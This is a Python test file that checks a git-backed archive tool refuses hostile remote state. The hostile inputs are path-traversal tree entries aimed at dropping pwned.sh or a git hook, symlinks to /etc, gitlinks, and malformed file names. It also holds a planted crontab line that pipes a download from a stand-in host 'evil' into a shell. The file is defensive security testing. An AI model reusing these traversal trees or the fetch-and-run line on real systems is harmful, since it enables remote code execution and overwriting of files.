"""A shared remote is trusted with nothing: what a hostile or broken remote cannot do to a runner.

Real processes (the ``policydiff`` CLI), real bare git remotes in temp dirs; the hostile trees are
written with ``git hash-object --literally`` (which, like a hostile server, skips git's checks).
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

from archive_helpers import seed_text

ROOT = Path(__file__).resolve().parents[1]
IDENT = {"GIT_AUTHOR_NAME": "mallory", "GIT_AUTHOR_EMAIL": "m@localhost",
         "GIT_COMMITTER_NAME": "mallory", "GIT_COMMITTER_EMAIL": "m@localhost"}


def cli(*args: str, cwd: Path, timeout: float = 120) -> subprocess.CompletedProcess[str]:
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    env.pop("POLICYDIFF_ARCHIVE", None)
    return subprocess.run([sys.executable, "-m", "policydiff", *args], cwd=cwd, env=env,
                          capture_output=True, text=True, timeout=timeout)


def git(*args: str, input: bytes | None = None) -> str:
    out = subprocess.run(["git", *args], input=input, capture_output=True, check=True,
                         env=dict(os.environ, **IDENT)).stdout
    return out.decode().strip()


def raw_tree(repo: Path, entries: list[tuple[str, bytes, str]]) -> str:
    """A tree object with exactly these (mode, name, id) entries, unchecked (as a hostile server sends it)."""
    body = b"".join(mode.encode() + b" " + name + b"\0" + bytes.fromhex(sha) for mode, name, sha in entries)
    return git("--git-dir", str(repo), "hash-object", "-w", "-t", "tree", "--literally", "--stdin", input=body)


def blob(repo: Path, data: bytes) -> str:
    return git("--git-dir", str(repo), "hash-object", "-w", "--stdin", input=data)


def hostile_state(repo: Path, root_entries: list[tuple[str, bytes, str]]) -> None:
    commit = git("--git-dir", str(repo), "commit-tree", raw_tree(repo, root_entries), "-m", "state")
    git("--git-dir", str(repo), "update-ref", "refs/policydiff/state", commit)


def runner(tmp_path: Path, remote: Path, name: str = "r1") -> Path:
    archive = tmp_path / name / "archive"
    assert cli("init", "--archive", str(archive), cwd=tmp_path).returncode == 0
    assert cli("remote", "add", "origin", str(remote), "--archive", str(archive), cwd=tmp_path).returncode == 0
    return archive


def snapshot(tmp_path: Path, archive: Path, slug: str, text: str) -> None:
    src = tmp_path / f"{slug}.txt"
    src.write_text(text, encoding="utf-8")
    done = cli("snapshot", slug, str(src), "--archive", str(archive), cwd=tmp_path)
    assert done.returncode == 0, done.stderr


def bare(tmp_path: Path, name: str = "remote.git") -> Path:
    remote = tmp_path / name
    git("init", "-q", "--bare", "--initial-branch=main", str(remote))
    return remote


def test_a_state_tree_entry_dotdot_writes_nothing_outside_the_archive(tmp_path: Path) -> None:
    remote = bare(tmp_path)
    payload = blob(remote, b"echo pwned\n")
    # state/../../pwned.sh and state/../versions.git/hooks/post-update: the two ways up
    inner = raw_tree(remote, [("100644", b"pwned.sh", payload)])
    up = raw_tree(remote, [("40000", b"..", inner)])
    hostile_state(remote, [("40000", b"..", up), ("100644", b"checks.json", blob(remote, b"{}\n"))])
    archive = runner(tmp_path, remote)
    before = git("--git-dir", str(remote), "rev-parse", "refs/policydiff/state")
    done = cli("sync", "--archive", str(archive), cwd=tmp_path)
    assert done.returncode == 2, done.stdout + done.stderr
    assert len(done.stderr.strip().splitlines()) == 1 and "Traceback" not in done.stderr
    assert not list(tmp_path.rglob("pwned.sh"))
    assert git("--git-dir", str(remote), "rev-parse", "refs/policydiff/state") == before  # nothing pushed on


def test_a_state_file_git_accepts_but_is_no_state_file_is_refused(tmp_path: Path) -> None:
    remote = bare(tmp_path)
    hostile_state(remote, [("100644", b"crontab", blob(remote, b"* * * * * curl evil | sh\n"))])
    archive = runner(tmp_path, remote)
    done = cli("sync", "--archive", str(archive), cwd=tmp_path)
    assert done.returncode == 2 and "crontab" in done.stderr and "nothing was written" in done.stderr, done.stderr
    assert not (archive / "state" / "crontab").exists()


def test_a_symlink_or_gitlink_in_the_state_tree_is_refused(tmp_path: Path) -> None:
    for mode, target in (("120000", blob(bare(tmp_path, "s.git"), b"/etc")), ("160000", "1" * 40)):
        remote = bare(tmp_path, f"remote-{mode}.git")
        if mode == "120000":
            target = blob(remote, b"/etc")
        hostile_state(remote, [("100644", b"checks.json", blob(remote, b"{}\n")), (mode, b"outbox", target)])
        archive = runner(tmp_path, remote, f"r-{mode}")
        done = cli("sync", "--archive", str(archive), cwd=tmp_path)
        assert done.returncode == 2, (mode, done.stdout, done.stderr)
        assert not (archive / "state" / "outbox").is_symlink()
        assert "Traceback" not in done.stderr


def test_an_outbox_file_named_for_a_bad_slug_is_refused(tmp_path: Path) -> None:
    remote = bare(tmp_path)
    outbox = raw_tree(remote, [("100644", b"change-A..b-0123456789abcdef.json", blob(remote, b"{}\n"))])
    hostile_state(remote, [("40000", b"outbox", outbox)])
    archive = runner(tmp_path, remote)
    done = cli("sync", "--archive", str(archive), cwd=tmp_path)
    assert done.returncode == 2 and "slug" in done.stderr, done.stderr


def test_a_well_formed_state_still_syncs(tmp_path: Path) -> None:
    remote = bare(tmp_path)
    first = runner(tmp_path, remote, "r1")
    snapshot(tmp_path, first, "a", seed_text("000"))
    assert cli("sync", "--archive", str(first), cwd=tmp_path).returncode == 0
    second = runner(tmp_path, remote, "r2")
    done = cli("sync", "--archive", str(second), cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert (second / "state" / "checks.json").is_file()
